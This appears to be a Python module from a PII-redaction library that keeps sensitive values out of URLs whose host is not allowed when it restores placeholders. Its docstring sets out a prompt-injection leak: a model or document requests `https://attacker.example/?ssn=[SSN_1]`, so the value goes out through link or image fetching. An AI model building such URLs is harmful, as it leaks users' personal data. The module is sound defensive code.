"""Whether a placeholder sits inside a URL, and whether that URL's host may receive values.

A model (or a document it read) can ask for `https://attacker.example/?ssn=[SSN_1]`; a
restored value there leaves through the app's own HTTP client or a chat UI that fetches
images and links. Restoration therefore keeps placeholders inside URLs unless the URL's
host is on the policy's `restore.url_hosts`. A URL is the run of text since the last
character that cannot be part of one (space, quote, angle or round bracket...), holding a
`scheme://` or `www.` start. Streams carry that run from one event to the next per field.
"""

from __future__ import annotations

import regex

# Characters that end a URL in text, Markdown, HTML and JSON strings. Square brackets are
# not among them: placeholders are written with them.
TERMINATORS = frozenset(" \t\r\n\f\v\"'<>`(){}|^")
_START = regex.compile(
    r"(?i)(?<![A-Za-z0-9+.-])[a-z][a-z0-9+.-]{0,31}:(?:\\?/){2}"  # scheme://
    r"|(?<![\w.@])www\."
)
_AUTHORITY_END = regex.compile(r"[/\\?#]")
TAIL_LIMIT = 8192
# A URL run longer than TAIL_LIMIT: its host is no longer known, so nothing is restored in
# it (the empty authority before '/' never matches an allowed host).
_OVERFLOW = "x:///"


def token_start(text: str, lo: int, pos: int) -> int | None:
    """The start of the URL-able run ending at `pos` within text[lo:pos] (None: starts before)."""
    for i in range(pos - 1, lo - 1, -1):
        if text[i] in TERMINATORS:
            return i + 1
    return None


def hosts_in(run: str) -> list[str]:
    """The host of every URL that starts in `run` ('' when the run ends inside its host)."""
    hosts = []
    for match in _START.finditer(run):
        begin = match.start() if match.group().lower().startswith("www.") else match.end()
        end = _AUTHORITY_END.search(run, begin)
        if end is None:
            hosts.append("")  # the placeholder is in the authority itself
            continue
        authority = run[begin : end.start()].rsplit("@", 1)[-1]
        if authority.startswith("["):
            host = authority[1 : authority.find("]")] if "]" in authority else ""
        else:
            host = authority.split(":", 1)[0]
        hosts.append(host.lower().rstrip("."))
    return hosts


class UrlGuard:
    """Decides, for a placeholder position, whether restoring it would put a value in a URL."""

    def __init__(self, allowed: list[str] | tuple[str, ...] = ()) -> None:
        self.exact = frozenset(h.lower().rstrip(".") for h in allowed if not h.startswith("*."))
        self.suffixes = tuple(h[1:].lower().rstrip(".") for h in allowed if h.startswith("*."))

    def allowed(self, host: str) -> bool:
        return bool(host) and (host in self.exact or host.endswith(self.suffixes or ("\0",)))

    def withholds(self, text: str, lo: int, pos: int, context: str = "") -> bool:
        """True when text[pos] (a placeholder) is inside a URL whose host is not allowed.

        `context` is the run of earlier text (a previous stream event) that text[lo:]
        continues.
        """
        start = token_start(text, lo, pos)
        run = text[start:pos] if start is not None else context + text[lo:pos]
        return any(not self.allowed(host) for host in hosts_in(run))

    def advance(self, tail: str, released: str) -> str:
        """The run still open after `released` follows `tail` (kept between stream events)."""
        start = token_start(released, 0, len(released))
        run = released[start:] if start is not None else tail + released
        if len(run) <= TAIL_LIMIT:
            return run
        return _OVERFLOW if _START.search(run) else run[-64:]
